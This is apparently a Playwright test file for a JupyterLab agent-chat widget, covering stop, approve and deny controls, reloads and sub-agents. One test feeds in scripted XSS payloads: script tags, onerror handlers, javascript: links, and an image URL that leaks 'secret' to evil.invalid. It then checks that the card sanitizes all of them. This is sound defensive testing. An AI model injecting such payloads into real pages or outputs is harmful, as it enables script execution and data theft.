"""The card in real JupyterLab, clicked as a person would. Pictures go to ``$AW_SHOTS``."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Locator, WebSocket, expect

from tests.browser.jlab import Lab, Notebook

pytestmark = pytest.mark.timeout(300)  # servers and pages take their time on a busy machine

SETUP = """\
import asyncio, time
import agent_widgets as aw
from agent_widgets.models.scripted import ScriptedModel, call, say, think
executed = []

@aw.tool(confirm=True)
async def delete_rows(table: str, where: str) -> int:
    "Delete the rows of TABLE that match WHERE."
    executed.append(table)
    return 3

def slow(*answers):
    "A model whose first answer takes two minutes."
    story = say([f"word{n} " for n in range(6000)])
    return ScriptedModel([[story], *([say(answer)] for answer in answers)], tokens_per_second=50)
"""
ASKS = """\
ask = call("delete_rows", {"table": "orders", "where": "status = 'cancelled'"})
deleter = aw.Agent(ScriptedModel([[say("I shall clean up."), ask], [say("As you say.")]]), tools=[delete_rows])
run = aw.chat(deleter, "Clean up the orders table")"""


FAMILY = """\
def helper(name, *script):
    return aw.Agent(ScriptedModel(script, tokens_per_second=40), name=name, tools=[delete_rows]).as_tool()

ask = call("delete_rows", {"table": "drafts", "where": "age > 30"})
cleaner = helper("cleaner", [think("Old drafts first."), say("I clean up the drafts."), ask], [say("The old drafts are gone.")])
reader = helper("reader", [say([f"page{n} " for n in range(1000)])])
tasks = [call("cleaner", {"task": "Clean up the drafts."}), call("reader", {"task": "Read the manual."})]
model = ScriptedModel([[say("Two tasks, two agents."), *tasks], [say("All done.")]])
boss = aw.Agent(model, name="boss", tools=[cleaner, reader])
run = aw.chat(boss, "Clean up, and read the manual")"""


@pytest.fixture(scope="module", params=["Light", "Dark"])
def themed(request: pytest.FixtureRequest, browser: Browser) -> Iterator[Lab]:
    with Lab(browser, theme=f"JupyterLab {request.param}") as lab:  # pyright: ignore[reportArgumentType]
        yield lab


def opened(lab: Lab, name: str, *cells: str) -> Notebook:
    """A notebook whose first cell has run."""
    lab.write(f"{name}.ipynb", [SETUP, *cells])
    notebook = lab.open(f"{name}.ipynb")
    notebook.run_cell(0)
    notebook.wait_done(0)
    return notebook


def card(notebook: Notebook, index: int) -> Locator:
    return notebook.cell(index).locator(".aw-card")


def button(where: Locator, name: str) -> Locator:
    return where.get_by_role("button", name=name, exact=True)


def ended(notebook: Notebook, index: int, outcome: str) -> None:
    expect(card(notebook, index).locator(".aw-chip")).to_have_text(outcome, timeout=10_000)


def words(text: str) -> list[str]:
    return re.findall(r"word\d+", text)


def in_order(text: str) -> bool:
    return words(text) == [f"word{n}" for n in range(len(words(text)))]


@pytest.mark.parametrize("waits", ["await run", "run.wait()", "pass"])
def test_stop_in_mid_stream_and_the_next_cell_goes_on_from_a_valid_history(lab: Lab, waits: str) -> None:
    name = "stop-" + re.sub(r"\W+", "-", waits)
    start = f"agent = aw.Agent(slow('I went on.'))\nrun = aw.chat(agent, 'Tell me a story'); {waits}"
    notebook = opened(lab, name, start, "print((await aw.chat(agent, 'Go on')).text, agent.state.check(), run.status)")
    notebook.run_cell(1)
    shown = card(notebook, 1)
    expect(shown).to_contain_text("word5")
    pressed = time.monotonic()
    button(shown, "Stop").click()
    ended(notebook, 1, "stopped")
    assert time.monotonic() - pressed < 1.5  # Playwright's own click takes a part of it; the bench measures in the page
    expect(shown).to_contain_text(re.compile(r"Stopped by you after \d+"))
    notebook.wait_done(1)
    notebook.run_cell(2)
    notebook.wait_text(2, "I went on. () interrupted")
    assert lab.errors() == []
    notebook.close()


def test_the_button_says_stopping_at_once(lab: Lab) -> None:
    notebook = opened(lab, "stopping", "agent = aw.Agent(slow())\nrun = aw.chat(agent, 'Tell me a story')")
    notebook.run_cell(1)
    expect(card(notebook, 1)).to_contain_text("word3")
    said = notebook.page.evaluate(
        """() => { const stop = [...document.querySelectorAll('.aw-card button')].find(b => b.textContent === 'Stop');
                   stop.click(); return [stop.textContent, stop.disabled]; }"""
    )
    assert said == ["Stopping…", True]
    ended(notebook, 1, "stopped")
    notebook.close()


def test_deny_with_a_reason_that_the_model_reads_word_for_word(themed: Lab) -> None:
    notebook = opened(themed, "deny", ASKS, "print(deleter.model.requests[-1].messages[-1]['content'])")
    notebook.run_cell(1)
    shown = card(notebook, 1)
    expect(shown.locator(".aw-chip")).to_have_text("waiting for you")
    expect(shown).to_contain_text("status = 'cancelled'")
    assert (
        notebook.page.evaluate("document.activeElement.closest('.aw-card')") is None
    )  # nothing grabs the focus, least of all Approve
    notebook.screenshot(f"paused-{theme_of(notebook)}", shown)
    shown.get_by_label("Reason for denying").fill("Not before Tuesday's back-up, please!")
    button(shown, "Deny").click()
    ended(notebook, 1, "done")
    expect(shown).to_contain_text("Not before Tuesday's back-up, please!")
    notebook.screenshot(f"denied-{theme_of(notebook)}", shown)
    notebook.run_cell(2)
    notebook.wait_text(2, "Reason: Not before Tuesday's back-up, please!")
    assert themed.errors() == []
    notebook.close()


def test_approve_executes_the_call_once_even_when_clicked_twice(lab: Lab) -> None:
    results = "[m['content'] for m in deleter.model.requests[-1].messages if m['role'] == 'tool']"
    notebook = opened(lab, "approve", ASKS, f"print(executed, {results})")
    notebook.run_cell(1)
    button(card(notebook, 1), "Approve").dblclick()
    ended(notebook, 1, "done")
    notebook.run_cell(2)
    notebook.wait_text(2, "['orders'] ['3']")
    notebook.close()


def test_a_paused_run_is_stopped_by_the_same_button(lab: Lab) -> None:
    notebook = opened(
        lab, "stop-paused", ASKS, "print(run.status, deleter.state.check(), (await aw.chat(deleter, 'Thanks')).text)"
    )
    notebook.run_cell(1)
    expect(card(notebook, 1).locator(".aw-chip")).to_have_text("waiting for you")
    button(card(notebook, 1), "Stop").click()
    ended(notebook, 1, "stopped")
    notebook.run_cell(2)
    notebook.wait_text(2, "interrupted () As you say.")
    notebook.close()


def test_a_reload_in_mid_run_shows_the_same_text_and_a_stop_that_works(lab: Lab) -> None:
    notebook = opened(
        lab, "reload", "agent = aw.Agent(slow())\nrun = aw.chat(agent, 'Tell me a story')", "print(run.status, run.text)"
    )
    notebook.run_cell(1)
    expect(card(notebook, 1)).to_contain_text("word20")
    notebook.save()
    notebook.reload(wait=False)
    shown = card(notebook, 1)
    expect(shown).to_contain_text("word60", timeout=20_000)
    assert in_order(shown.inner_text().rpartition("word")[0])  # of the last one only a part may be drawn yet
    button(shown, "Stop").click()
    ended(notebook, 1, "stopped")
    notebook.run_cell(2)
    notebook.wait_text(2, "interrupted word0")
    assert words(shown.inner_text()) == words(notebook.text(2))
    assert lab.errors() == []
    notebook.close()


def test_a_second_view_shows_the_same_and_both_are_alive(lab: Lab) -> None:
    show_again = "from ipywidgets import Widget\ndisplay([w for w in Widget.widgets.values() if hasattr(w, 'css_id')][-1])"
    notebook = opened(lab, "two-views", "agent = aw.Agent(slow())\nrun = aw.chat(agent, 'Tell me a story')", show_again)
    notebook.run_cell(1)
    expect(card(notebook, 1)).to_contain_text("word10")
    notebook.run_cell(2)
    expect(card(notebook, 2)).to_contain_text("word40", timeout=15_000)
    button(card(notebook, 2), "Stop").click()
    ended(notebook, 1, "stopped")
    ended(notebook, 2, "stopped")
    first, second = (card(notebook, index).inner_text() for index in (1, 2))
    assert words(first) == words(second)
    assert in_order(first)
    notebook.close()


def test_a_saved_notebook_without_its_kernel_shows_the_transcript_once(themed: Lab) -> None:
    shows_its_transcript_without_its_kernel(themed)


def test_notebook_7_shows_the_transcript_without_its_kernel(notebook_app: Lab) -> None:
    shows_its_transcript_without_its_kernel(notebook_app)


def shows_its_transcript_without_its_kernel(app: Lab) -> None:
    notebook = opened(
        app,
        "reopen",
        "agent = aw.Agent(ScriptedModel([[say('A **bold** answer.')]]))\nawait aw.chat(agent, 'What is it?')",
        ASKS,
    )
    notebook.run_cell(1)
    notebook.wait_done(1)
    notebook.run_cell(2)
    expect(card(notebook, 2).locator(".aw-chip")).to_have_text("waiting for you")
    expect(notebook.output(1).locator(".aw-static")).to_be_hidden()
    expect(notebook.output(1).locator(".aw-static")).to_contain_text("bold")
    expect(notebook.output(2).locator(".aw-static")).to_contain_text("waits for a decision")
    saved = notebook.save()
    assert "A <strong>bold</strong> answer." in saved["cells"][1]["outputs"][1]["data"]["text/html"]
    notebook.command("notebook:shutdown-kernel", wait=False)
    notebook.wait_kernel("none")
    notebook.close()
    again = app.open("reopen.ipynb")
    expect(again.output(1).locator(".aw-static strong")).to_have_text("bold")
    expect(again.output(2).locator(".aw-static")).to_contain_text("waits for a decision")
    expect(again.output(1)).not_to_contain_text("live card")
    assert again.page.get_by_text("Error displaying widget").locator("visible=true").count() == 0
    again.screenshot(f"reopened-{app.app}-{theme_of(again)}")
    again.close()


def test_the_javascript_goes_to_a_page_once(lab: Lab) -> None:
    agent = "agent = aw.Agent(ScriptedModel([[say(f'answer {n}')] for n in range(12)]))"
    cards = f"{agent}\nfor n in range(12): await aw.chat(agent, f'question {{n}}')"
    lab.write("bundles.ipynb", [SETUP, cards])
    notebook = lab.open("bundles.ipynb")
    received: list[int] = []

    def count(socket: WebSocket) -> None:
        socket.on("framereceived", lambda frame: received.append(len(frame)))

    notebook.page.on("websocket", count)
    notebook.reload()
    notebook.run_all()
    notebook.wait_done(1)
    expect(notebook.cell(1).locator(".aw-card")).to_have_count(12)
    expect(card(notebook, 1).last).to_contain_text("answer 11")
    loaded = notebook.page.evaluate("Object.keys(globalThis.__agentWidgets).length")
    size = notebook.page.evaluate("Object.keys(globalThis.__agentWidgets)[0]")
    assert (loaded, size.startswith("agent-widgets@")) == (1, True)
    assert sum(received) < 500_000, sum(received)  # one bundle of 150 kB; twelve would be 1.8 MB
    notebook.close()


HOSTILE = r"""
agent = aw.Agent(ScriptedModel([[think('<img src=x onerror=hacked=1>'), say('''<script>hacked=1</script>

<img src="http://evil.invalid/a.png" onerror="hacked=1"> ![x](http://evil.invalid/b.png?q=secret)

[click](javascript:hacked=1) <a href="javascript:hacked=1">me</a> <iframe src="http://evil.invalid/"></iframe>

<svg onload="hacked=1"><style>* { background: url(http://evil.invalid/c) }</style></svg> <form action="http://evil.invalid/"><input></form>
'''), call("show", {"html": "<img src=http://evil.invalid/d onerror=hacked=1><script>hacked=1</script><b>bold</b>"})],
                              [say("done")]]), tools=[])
@aw.tool
def show(html: str) -> str:
    "Display some HTML."
    from IPython.display import HTML, display
    display(HTML(html))
    return html
agent.tools["show"] = show
await aw.chat(agent, "<b onclick=hacked=1>hello</b>")
"""


def test_nothing_that_a_model_or_a_tool_says_runs_or_is_fetched(lab: Lab) -> None:
    notebook = opened(lab, "hostile", HOSTILE)
    asked: list[str] = []
    notebook.page.on("request", lambda request: asked.append(request.url))
    notebook.run_cell(1)
    ended(notebook, 1, "done")
    notebook.page.wait_for_timeout(500)
    assert [url for url in asked if "evil" in url] == []
    assert notebook.page.evaluate("typeof globalThis.hacked") == "undefined"
    shown = card(notebook, 1)
    for selector in (
        "script",
        "iframe",
        "form",
        "svg[onload]",
        "[onerror]",
        "[onclick]",
        "a[href^=javascript]",
        "img[src^=http]",
    ):
        assert shown.locator(selector).count() == 0, selector
    assert shown.locator("style").count() == 1  # the card's own rule that hides its static twin
    notebook.screenshot("hostile", shown)
    notebook.close()


def test_the_keyboard_reaches_everything_and_escape_stops(lab: Lab) -> None:
    notebook = opened(lab, "keyboard", "agent = aw.Agent(slow())\nrun = aw.chat(agent, 'Tell me a story')", ASKS)
    notebook.run_cell(1)
    shown = card(notebook, 1)
    expect(shown).to_contain_text("word5")
    button(shown, "Stop").focus()
    notebook.page.keyboard.press("Escape")
    ended(notebook, 1, "stopped")
    notebook.run_cell(2)
    asking = card(notebook, 2)
    asking.get_by_label("Reason for denying").focus()
    notebook.page.keyboard.type("no, thanks")
    notebook.page.keyboard.press("Enter")
    ended(notebook, 2, "done")
    expect(asking).to_contain_text("no, thanks")
    notebook.close()


def test_continue_goes_on_in_the_same_card_without_a_new_message(lab: Lab) -> None:
    notebook = opened(
        lab, "continue", "agent = aw.Agent(slow('And they lived happily.'))\nrun = aw.chat(agent, 'Tell me a story')"
    )
    notebook.run_cell(1)
    shown = card(notebook, 1)
    expect(shown).to_contain_text("word5")
    button(shown, "Stop").click()
    ended(notebook, 1, "stopped")
    button(shown, "Continue").click()
    expect(shown).to_contain_text("And they lived happily.")
    notebook.close()


def test_a_card_without_a_prompt_has_a_box_to_type_in(lab: Lab) -> None:
    notebook = opened(lab, "composer", "agent = aw.Agent(ScriptedModel([[say('one')], [say('two')]]))\naw.chat(agent)")
    notebook.run_cell(1)
    shown = card(notebook, 1)
    box = shown.get_by_role("textbox")
    box.fill("first question")
    notebook.page.keyboard.press("Enter")
    expect(shown).to_contain_text("one")
    box.fill("second question")
    button(shown, "Send").click()
    expect(shown).to_contain_text("two")
    notebook.screenshot("composer", shown)
    notebook.close()


def theme_of(notebook: Notebook) -> str:
    return "dark" if notebook.page.locator("body").get_attribute("data-jp-theme-light") == "false" else "light"


def test_sub_agents_are_shown_in_their_calls_and_one_is_stopped_alone_while_the_other_waits(themed: Lab) -> None:
    notebook = opened(
        themed, "family", FAMILY, "print([m['content'] for m in boss.model.requests[-1].messages if m['role'] == 'tool'])"
    )
    notebook.run_cell(1)
    shown = card(notebook, 1)
    cleaner, reader = shown.locator(".aw-child").nth(0), shown.locator(".aw-child").nth(1)
    expect(reader).to_contain_text("page9")
    expect(cleaner).to_contain_text("waiting for you")
    notebook.screenshot(f"family-running-{theme_of(notebook)}", shown)
    button(reader, "Stop reader").click()
    expect(shown.locator(".aw-chip")).to_have_text("waiting for you")
    notebook.screenshot(f"family-paused-{theme_of(notebook)}", shown)
    notebook.save()
    notebook.reload()
    cleaner = card(notebook, 1).locator(".aw-child").nth(0)
    button(cleaner, "Approve").click()
    ended(notebook, 1, "done")
    expect(cleaner).to_contain_text("The old drafts are gone.")
    notebook.screenshot(f"family-done-{theme_of(notebook)}", card(notebook, 1))
    cleaner.locator("summary", has_text="cleaner").click()
    expect(cleaner.get_by_text("The old drafts are gone.")).to_be_hidden()
    notebook.run_cell(2)
    notebook.wait_text(2, "['The old drafts are gone.', 'page0 ")
    assert themed.errors() == []
    notebook.close()
